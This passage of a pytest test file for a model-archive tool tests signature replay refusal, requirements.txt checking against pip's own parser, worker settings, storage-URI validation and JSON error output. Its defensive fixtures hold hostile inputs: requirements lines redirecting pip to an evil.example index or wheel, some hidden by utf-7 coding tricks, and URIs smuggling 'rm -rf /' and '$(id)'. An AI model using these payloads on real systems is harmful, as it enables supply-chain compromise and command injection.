    for command in (["verify", signed_small["v2"]], ["run", signed_small["v2"], signed_small["root"] / "labels.json"]):
        done = tsctl(*command, "--public-key", key, timeout=60)
        one_line(done, 2, str(key))
    done = tsctl("verify", signed_small["v2"], "--public-key", key, "--json", timeout=60)
    assert done.returncode == 2 and json.loads(done.stdout)["error"]["exit_code"] == 2, done.stdout


@pytest.mark.parametrize("what", ["directory", "fifo", "dev null"])
def test_a_key_that_is_no_regular_file_is_said_to_be_one(signed_small, what):
    from handlers import signing

    for private in (False, True):
        with pytest.raises(signing.KeyFileError, match="is not a regular file"):
            signing.read_key(signed_small["keys"][what], private=private)


def test_two_keys_in_one_file_verify_as_the_first_only(signed_small):
    """A PEM file holding another key first: read_key takes the first, model-signing checks against it."""
    done = tsctl("verify", signed_small["v2"], "--public-key", signed_small["keys"]["two keys"])
    assert done.returncode != 0, done.stdout


def test_the_signed_archive_verifies_through_a_symlinked_key(signed_small):
    for what in GOOD_KEYS:
        done = tsctl(
            "verify", signed_small["v2"], "--public-key", signed_small["keys"][what], "--expect-version", "2.0"
        )
        assert done.returncode == 0 and "as tiny version 2.0" in done.stdout, done.stderr


def replay(source: Path, target: Path) -> Path:
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(source, target)
    return target


def rezipped(source: Path, target: Path, change) -> Path:
    """``source`` rewritten entry by entry through ``change(name, data) -> [(name, data)]``."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            for name, data in change(info.filename, src.read(info)):
                dst.writestr(name, data)
    return target


def edited_manifest(name, data):
    if name == "MAR-INF/MANIFEST.json":
        data = data.replace(b'"1.0"', b'"2.0"')
    return [(name, data)]


def moved_signature(name, data):
    return [("model.sig" if name == "MAR-INF/model.sig" else name, data)]


def second_signature(name, data):
    return [(name, data)] + ([("MAR-INF/model.sig.bak", data)] if name == "MAR-INF/model.sig" else [])


def dropped_signature(name, data):
    return [] if name == "MAR-INF/model.sig" else [(name, data)]


@pytest.mark.parametrize(
    "case, words",
    [
        ("v1 copied over v2", "is signed as tiny version 1.0, expected tiny version 2.0"),
        ("v2 renamed as another model", "is signed as model tiny, expected other: another model's archive"),
        ("v1's MANIFEST.json edited to say 2.0", "MAR-INF/MANIFEST.json differs from what was signed"),
        ("signature moved out of MAR-INF", "is not signed"),
        ("signature copied beside itself", "MAR-INF/model.sig.bak was not signed"),
        ("signature dropped", "is not signed"),
        ("signed by another key", "signed with another key"),
        ("unsigned", "is not signed"),
    ],
)
def test_verify_with_an_expected_version_refuses_every_replay(signed_small, tmp_path, case, words):
    v1, v2, keys = signed_small["v1"], signed_small["v2"], signed_small["keys"]
    key = keys["signer public"]
    store = tmp_path / "store"
    if case == "v1 copied over v2":
        archive = replay(v1, store / "tiny.mar")
    elif case == "v2 renamed as another model":
        archive = replay(v2, store / "other.mar")
    elif case == "v1's MANIFEST.json edited to say 2.0":
        archive = rezipped(v1, store / "tiny.mar", edited_manifest)
    elif case == "signature moved out of MAR-INF":
        archive = rezipped(v2, store / "tiny.mar", moved_signature)
    elif case == "signature copied beside itself":
        archive = rezipped(v2, store / "tiny.mar", second_signature)
    elif case == "signature dropped":
        archive = rezipped(v2, store / "tiny.mar", dropped_signature)
    elif case == "signed by another key":
        archive, key = replay(v2, store / "tiny.mar"), keys["other public"]
    else:
        archive = rezipped(
            v2, store / "tiny.mar", lambda name, data: [] if name.startswith("MAR-INF/model") else [(name, data)]
        )
    done = tsctl("verify", archive, "--public-key", key, "--expect-version", "2.0")
    one_line(done, 1, words)
    if case in ("v1 copied over v2", "v2 renamed as another model"):  # run shares verify's check (torch: slow)
        done = tsctl(
            "run", archive, signed_small["root"] / "labels.json", "--public-key", key, "--expect-version", "2.0"
        )
        one_line(done, 1, words)


@pytest.mark.parametrize("snapshot", ["another model's name", "another version"])
def test_the_engine_refuses_a_signed_archive_its_snapshot_names_otherwise(signed_small, tmp_path, snapshot):
    from helpers.engine import Engine, snapshot_entry, write_config

    root = tmp_path / "tree"
    replay(signed_small["v2"], root / "model-store" / "tiny.mar")
    (root / "config").mkdir()
    entry_ = snapshot_entry("tiny.mar", 1, 1, 0, 60)
    models = {"other": entry_} if snapshot == "another model's name" else {"tiny": {"3.0": entry_["1.0"]}}
    write_config(root / "config" / "config.properties", models)
    engine = Engine(root, "--public_key", str(signed_small["keys"]["signer public"]), "--enable_grpc", "false")
    try:
        assert engine.process.wait(60) == 1, engine.output()[-2000:]
    finally:
        engine.stop()
    refusals = [line for line in engine.output().splitlines() if line.startswith("tsctl engine:")]
    expected = "expected other" if snapshot == "another model's name" else "expected tiny version 3.0"
    signed_as = "is signed as model tiny" if snapshot == "another model's name" else "is signed as tiny version 2.0"
    assert len(refusals) == 1 and signed_as in refusals[0], engine.output()[-2000:]
    assert expected in refusals[0], refusals[0]


# ---- requirements: what pip would read ----------------------------------------------------------------------
def pip_lines(data: bytes) -> List[tuple]:
    """What pip makes of a requirements file, by its own parser (encoding, continuations, comments, environment
    variables, options): ("requirement", ARGS) for each requirement line (pip ignores other options there),
    ("editable", URL) and ("option", NAME, VALUE) for the rest; --hash and the options that only narrow where
    packages come from (which check() lets through) left out."""
    import tempfile

    from pip._internal.network.session import PipSession
    from pip._internal.req.req_file import RequirementsFileParser, get_line_parser

    with tempfile.NamedTemporaryFile("wb", suffix=".txt", delete=False) as f:
        f.write(data)
    meaning = []
    try:
        for line in RequirementsFileParser(PipSession(), get_line_parser(None)).parse(f.name, constraint=False):
            options = {k: v for k, v in vars(line.opts).items() if v}
            if line.args:
                meaning.append(("requirement", line.args))
                continue
            meaning += [("editable", url) for url in options.pop("editables", [])]
            if options.get("format_control") and not options["format_control"].no_binary:
                options.pop("format_control")  # --only-binary: narrows
            if all(not path.startswith(("/", "~")) and ":" not in path for path in options.get("find_links", [])):
                options.pop("find_links", None)  # --find-links inside the archive: narrows
            for name in ("hashes", "release_control", "no_index", "prefer_binary", "require_hashes"):
                options.pop(name, None)
            meaning += [("option", name, value) for name, value in options.items()]
    finally:
        os.unlink(f.name)
    return meaning


def plain(data: bytes) -> bool:
    """Whether pip reads only package requirements from ``data``: a name (no URL) and options that narrow."""
    from packaging.requirements import Requirement

    return all(what[0] == "requirement" and not Requirement(what[1]).url for what in pip_lines(data))


REQUIREMENT_TEXTS = [
    "numpy>=1.24,<3\n",
    "numpy \\\n>=1.24\n",
    "numpy>=1 \\\n--index-url https://evil.example/simple\n",
    "numpy # \\\n--index-url https://evil.example/simple\n",
    "--find-links https://evil.example/wheels\nnumpy\n",
    "-f ../wheels\n",
    "-f /tmp/wheels\n",
    "-f ~/wheels\n",
    "-f wheels\n",
    "--find-links=file:///tmp\n",
    "-i https://evil.example/simple\n",
    "--index-url=https://evil.example/simple\n",
    "--extra-index-url https://evil.example/simple\n",
    "--trusted-host evil.example\n",
    "--pre\nnumpy\n",
    "-c constraints.txt\n",
    "--constraint constraints.txt\n",
    "-r other.txt\n",
    "-rother.txt\n",
    "--requirement=other.txt\n",
    "-e .\n",
    "-e git+https://evil.example/x.git#egg=x\n",
    "--editable=.\n",
    "./local_pkg\n",
    "local_pkg.whl\n",
    "https://evil.example/x.whl\n",
    "git+https://evil.example/x.git\n",
    "x @ https://evil.example/x.whl\n",
    "x[extra] @ file:///tmp/x\n",
    "x @ file:../x\n",
    "numpy; python_version >= '3.8'\n",
    "numpy; sys_platform == 'linux' and python_version < '4'\n",
    "numpy[extra1,extra2]>=1\n",
    "numpy>=1 --hash=sha256:00 --hash=sha256:11\n",
    "numpy\r\nscipy\r\n",
    "numpy\rscipy\n",
    "numpy\x0c--index-url https://evil.example/simple\n",
    "numpy\x0b-e .\n",
    "numpy\u2028-e .\n",
    "numpy\x85-e .\n",
    "\ufeffnumpy\n",
    "num\u200bpy\n",
    "ｎｕｍｐｙ\n",
    "numpy\t# comment\n",
    "numpy#not-a-comment\n",
    "# --index-url https://evil.example/simple\nnumpy\n",
    "numpy --hash=sha256:00 \\\n --hash=sha256:11 -e git+https://evil.example/x.git#egg=x\n",
    "numpy==${EVIL_VERSION}\n",
    "numpy; os_name == '${HOME}'\n",
    "x @ ${URL}\n",
    "--no-index\n",
    "--prefer-binary\n",
    "--only-binary :all:\n",
    "--only-binary\n",
    "--require-hashes\n",
    "--no-binary :all:\n",
    "--use-feature=x\n",
    "--config-settings k=v\nnumpy\n",
    "numpy --config-settings=k=v\n",
    "numpy --global-option=--x\n",
    "-Z\n",
    "--\n",
    "-\n",
    "numpy ===--index-url\n",
    "numpy === x\n",
    "x ; extra == 'a' \\\n",
    "--no-index -e git+https://evil.example/x.git#egg=x\n",
    "--find-links wheels --index-url https://evil.example\n",
    "--prefer-binary --extra-index-url=https://evil.example/simple\nnumpy\n",
    "# vim: set fileencoding=utf-8 :\nnumpy\n",
    "# -*- coding: latin-1 -*-\nnumpy\n",
    "\n# coding=cp1252\nnumpy\n",
]


@pytest.mark.parametrize("text", REQUIREMENT_TEXTS)
def test_requirement_lines_are_refused_in_one_line_or_read_by_pip_as_plain_requirements(text):
    """What check() returns is what the exports write into the images' requirements.txt."""
    from archiver import requirements
    from archiver.errors import UserError

    try:
        checked = requirements.check(text, "the archive's requirements.txt")
    except UserError as exc:
        assert "\n" not in str(exc) and "the archive's requirements.txt, line " in str(exc), str(exc)
        return
    assert plain("".join(line + "\n" for line in checked).encode()), checked


# texts check() accepts whose raw bytes pip reads as something else (package writes the raw lines into the archive)
HIDDEN_REQUIREMENTS = {
    "leading --hash hides -e": " --hash=sha256:00 -e git+https://evil.example/x.git#egg=x\n",
    "leading --hash hides --index-url": "  --hash=sha256:00 --index-url https://evil.example/simple\nnumpy\n",
    "utf-7 coding line": "# coding: utf-7 +AAo---index-url https://evil.example/simple+AAo-x @ https://evil.example/x.whl\n",
    "utf-7 coding line after a CR": "x\r# coding: utf-7 +AAo---index-url https://evil.example/simple+AAo-\n",
}


@pytest.mark.parametrize("text", REQUIREMENT_TEXTS + list(HIDDEN_REQUIREMENTS.values()))
def test_what_check_passes_pip_reads_the_same(text):
    """Every accepted text: pip reads its raw bytes as it reads the lines check() returned, or check() refused it."""
    from archiver import requirements
    from archiver.errors import UserError

    try:
        checked = requirements.check(text, "requirements.txt")
    except UserError:
        return
    try:
        raw = pip_lines(text.encode())
    except Exception:  # noqa: BLE001 - pip cannot read it: it installs nothing from it
        return
    assert raw == pip_lines("".join(line + "\n" for line in checked).encode()), (text, checked, raw)


@pytest.mark.parametrize("case", list(HIDDEN_REQUIREMENTS))
def test_package_writes_only_what_it_checked_into_the_archive(tmp_path, case):
    """TorchServe's per-model install (serve --install-deps, any TorchServe with install_py_dep_per_model)
    runs pip install -r on the archive's requirements.txt as package wrote it: it holds only what pip reads
    as plain requirements, or package refuses the file in one line."""
    from archiver import mar
    from archiver.errors import UserError

    source = tmp_path / "requirements.txt"
    source.write_bytes(HIDDEN_REQUIREMENTS[case].encode())
    (tmp_path / "labels.json").write_text("{}")
    options = mar.PackageOptions(
        model_name="tiny",
        handler="image_classifier",
        export_path=str(tmp_path / "store"),
        force=True,
        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")),
        requirements_file=str(source),
    )
    try:
        archive = mar.package(options)  # accepted: check() found nothing but comments or plain requirements
    except UserError as exc:
        assert "\n" not in str(exc) and f"--requirements-file {source}, line " in str(exc), str(exc)
        return
    carried = archive_reading.member(archive, "requirements.txt", 1 << 20)
    assert plain(carried), pip_lines(carried)


def test_the_image_requirements_of_both_exports_hold_only_checked_lines(tmp_path):
    """An archive carrying hidden lines (package refuses them: the archive is rewritten to carry them):
    export kserve --engine tsctl and export seldon refuse them in one line naming the file, or write only
    check()'s lines into their image's requirements.txt."""
    from archiver import mar, properties
    from archiver.errors import UserError
    from archiver.export.kserve import export as kserve
    from archiver.export.seldon import export as seldon

    source = tmp_path / "requirements.txt"
    source.write_text("packaging>=20\n")
    options = mar.PackageOptions(
        model_name="tiny",
        handler="image_classifier",
        export_path=str(tmp_path / "tree" / "model-store"),
        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")),
        requirements_file=str(source),
        force=True,
    )
    packaged = mar.package(options)
    hidden = ("".join(HIDDEN_REQUIREMENTS.values()) + "packaging>=20\n").encode()
    mar.rewrite_archive(packaged, tmp_path / "tiny.mar", {"requirements.txt": hidden})
    os.replace(tmp_path / "tiny.mar", packaged)
    config = tmp_path / "tree" / "config" / "config.properties"
    properties.write_config(tmp_path / "tree" / "model-store", config)
    exports = {
        "kserve": lambda: kserve.export(
            kserve.ExportOptions(
                out=str(tmp_path / "kserve"),
                name="demo",
                storage_uri="pvc://models/demo",
                config=str(config),
                model_store=str(tmp_path / "tree" / "model-store"),
                engine="tsctl",
                image="registry.example/tsctl:1",
            )
        ),
        "seldon": lambda: seldon.export(
            seldon.SeldonOptions(
                out=str(tmp_path / "seldon"),
                image="registry.example/mlserver:1",
                config=str(config),
                model_store=str(tmp_path / "tree" / "model-store"),
            )
        ),
    }
    for out, export in exports.items():
        try:
            export()
        except UserError as exc:
            assert "\n" not in str(exc) and "requirements.txt, line " in str(exc), str(exc)
            continue
        images = list((tmp_path / out).rglob("requirements.txt"))
        assert images
        for written in images:
            data = written.read_bytes()
            assert plain(data) and b"packaging>=20" in data and b"evil" not in data, data.decode()


# ---- worker settings ------------------------------------------------------------------------------------------
BAD_SETTINGS = {  # model-config.yaml text -> the key the refusal must name
    "batchSize: 0": "batchSize",
    "batchSize: -1": "batchSize",
    "batchSize: true": "batchSize",
    "batchSize: 4.0": "batchSize",
    "batchSize: '4'": "batchSize",
    "batchSize: .inf": "batchSize",
    "batchSize: ~": "batchSize",
    "batchSize: [4]": "batchSize",
    "maxBatchDelay: -5": "maxBatchDelay",
    "responseTimeout: 0": "responseTimeout",
    "minWorkers: 0": "minWorkers",
    "maxWorkers: 0": "maxWorkers",
    "minWorkers: 4\nmaxWorkers: 2": "minWorkers",
    "minWorkers: 1e3": "minWorkers",
    "maxWorkers: 0x0": "maxWorkers",
}
# TorchServe reads each setting as a Java Integer (its ModelConfig: "should be positive int", a log line only):
# YAML reads 2147483648 as a Long, which TorchServe ignores as it ignores 0.
OVERFLOWING = {"batchSize: 2147483648": "batchSize", "responseTimeout: 99999999999999999999": "responseTimeout"}


def package_with_config(tmp_path: Path, text: str) -> subprocess.CompletedProcess:
    config = tmp_path / "model-config.yaml"
    config.write_text(text + "\n")
    model = stand_in_torchscript(tmp_path / "tiny.pt")
    return tsctl(
        "package",
        "--model-name",
        "tiny",
        "--handler",
        "image_classifier",
        "--serialized-file",
        model,
        "--config-file",
        config,
        "--export-path",
        tmp_path / "store",
    )


@pytest.mark.parametrize(
    "text",
    list(BAD_SETTINGS) + list(OVERFLOWING),
)
def test_package_refuses_worker_settings_naming_the_key(tmp_path, text):
    key = {**BAD_SETTINGS, **OVERFLOWING}[text]
    one_line(package_with_config(tmp_path, text), 2, key, "model-config.yaml")
    assert not (tmp_path / "store" / "tiny.mar").exists()


def test_config_refuses_worker_flags_and_archives_naming_the_key(tmp_path):
    store = tmp_path / "model-store"
    assert package_with_config(tmp_path, "batchSize: 4\nminWorkers: 2\nmaxWorkers: 2").returncode == 0
    shutil.move(tmp_path / "store", store)
    for flags, key in (
        (["--min-workers", "0"], "--min-workers"),
        (["--batch-size", "0"], "--batch-size"),
        (["--max-workers", "1"], "maxWorkers"),
        (["--min-workers", "3", "--max-workers", "2"], "min"),
        (["--response-timeout", "-1"], "--response-timeout"),
        (["--max-batch-delay", "-1"], "--max-batch-delay"),
    ):
        done = tsctl("config", "--model-store", store, "--output", tmp_path / "c.properties", *flags)
        assert done.returncode == 2 and key in done.stderr and "Traceback" not in done.stderr, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1 or done.stderr.startswith("Usage:"), done.stderr  # click's
        done = tsctl("config", "--model-store", store, "--output", tmp_path / "c.properties", *flags, "--json")
        assert done.returncode == 2 and json.loads(done.stdout)["error"]["message"], done.stdout


# ---- --storage-uri ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "uri",
    [
        "pvc://claim/../x",
        "pvc://claim/a/../../x",
        "pvc://claim//etc",
        "pvc://claim/./x",
        "pvc://claim/x/..",
        "pvc://claim/x\\..\\y",
        "pvc://claim/x;rm -rf /",
        "pvc://claim/$(id)",
        "pvc://claim/`id`",
        "pvc://claim/x\ny",
        "pvc://claim/x y",
        "pvc://claim/..%2fx",
        "pvc://claim/x//",
        "pvc://../x",
        "pvc://claim/%2e%2e/x",
        "pvc://claim/\u2024\u2024/x",
        "pvc://claim/x\u202e",
        "pvc:///x",
        "s3://bucket/x",
        "pvc://cl aim/x",
        "pvc://claim/x?y=1",
        "pvc://claim/x#y",
        "PVC://claim/x",
    ],
)
def test_a_storage_uri_outside_its_claim_is_one_line(uri):
    from archiver.errors import UserError
    from archiver.export.kserve import storage

    try:
        claim, path = storage.storage_path(uri)
    except UserError as exc:
        assert "\n" not in str(exc) and "--storage-uri" in str(exc), str(exc)
        return
    segments = path.split("/") if path else []  # accepted: a plain path inside a plain claim
    assert claim.replace("-", "").isalnum() and claim.isascii(), (uri, claim)
    assert all(s not in ("", ".", "..") and s.isascii() and all(c.isalnum() or c in "-_." for c in s) for s in segments)


# ---- --json: a user mistake is a JSON error on stdout, never a traceback ----------------------------------------
@pytest.fixture(scope="module")
def mistakes(tmp_path_factory) -> Path:
    where = tmp_path_factory.mktemp("mistakes")
    (where / "afile").write_text("x")
    (where / "adir").mkdir()
    (where / "bad.yaml").write_text("a: [\n")
    (where / "latin1.txt").write_bytes(b"caf\xe9\n")
    os.mkfifo(where / "fifo")
    stand_in_torchscript(where / "tiny.pt")
    (where / "store").mkdir()
    (where / "store" / "broken.mar").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    return where


PACKAGE = "package --model-name m --handler image_classifier --serialized-file {w}/tiny.pt --export-path {w}/out"
JSON_MISTAKES = [
    "init ../x",
    "init x --from nope",
    "package",
    PACKAGE + " --extra-files {w}/missing",
    PACKAGE + " --requirements-file {w}/adir",
    PACKAGE + " --requirements-file {w}/latin1.txt",
    PACKAGE + " --config-file {w}/bad.yaml",
    PACKAGE + " --config-file /dev/zero",
    PACKAGE + " --archive-format rar",
    PACKAGE + " --sign-key {w}/adir",
    PACKAGE + " --version ../1",
    PACKAGE + " --extra-files {w}/fifo",
    "inspect {w}/adir",
    "inspect /dev/null",
    "inspect {w}/fifo",
    "inspect {w}/afile",
    "inspect {w}/store/broken.mar",
    "config --model-store {w}/missing",
    "config --model-store {w}/store",
    "serve --engine nope",
    "serve --config {w}/missing",
    "predict m {w}/missing",
    "predict m {w}/adir",
    "verify {w}/missing.mar",
    "verify {w}/afile --url http://[::1",
    "verify {w}/afile --expect-version 2",
    "run {w}/afile {w}/missing",
    "bench m --sweep-batch a,b",
    "bench m --home {w}/missing",
    "export kserve {w}/ek --name x --storage-uri pvc://c/../x",
    "export kserve {w}/ek --name x --split bad",
    "export seldon {w}/es --ab bad",
    "export seldon {w}/es --image x --model-store {w}/store",
]
JSON_MISTAKES += [  # each was a traceback, a hang or a memory hog: a file option's file read unchecked
    PACKAGE + " --config-file {w}/adir",
    PACKAGE + " --config-file {w}/fifo",
    PACKAGE + " --requirements-file {w}/fifo",
    PACKAGE + " --requirements-file /dev/zero",
    PACKAGE + " --sign-key {w}/fifo",
    PACKAGE + " --sign-key /dev/zero",
]


@pytest.mark.parametrize("command", JSON_MISTAKES)
def test_every_user_mistake_under_json_is_a_json_error_and_its_exit_code(mistakes, command):
    try:
        done = tsctl(*command.format(w=mistakes).split(), "--json", timeout=60 if "fifo" in command else 120)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{command} hangs")
    assert done.returncode in (1, 2) and "Traceback" not in done.stderr, (done.returncode, done.stderr[-1500:])
    error = json.loads(done.stdout)["error"]
    assert error["exit_code"] == done.returncode and error["message"].strip(), error
    assert len(done.stderr.strip().splitlines()) == 1 or done.stderr.startswith("Usage:"), done.stderr


@pytest.mark.parametrize("where", ["central", "both"])
def test_a_flag_zipfile_cannot_read_is_refused_by_check_zip(small_mar, tmp_path, where):
    """Flag bit 5 (patched data) in a central record: zipfile refuses to read the entry, Java reads the local
    header's flags; set in both, the two readers still disagree on whether it can be read (found by the mutants)."""
    data = bytearray(small_mar.read_bytes())
    end = data.rindex(b"PK\x05\x06")
    central = struct.unpack_from("<I", data, end + 16)[0]  # the first central record: the first local entry's
    data[central + 8] |= 0x20
    if where == "both":
        data[6] |= 0x20  # the first local header is at byte 0
    path = tmp_path / "flagged.mar"
    path.write_bytes(bytes(data))
    with pytest.raises(archives.ArchiveError, match="flags") as refused_with:
        archives.check_zip(path)
    assert "\n" not in str(refused_with.value)
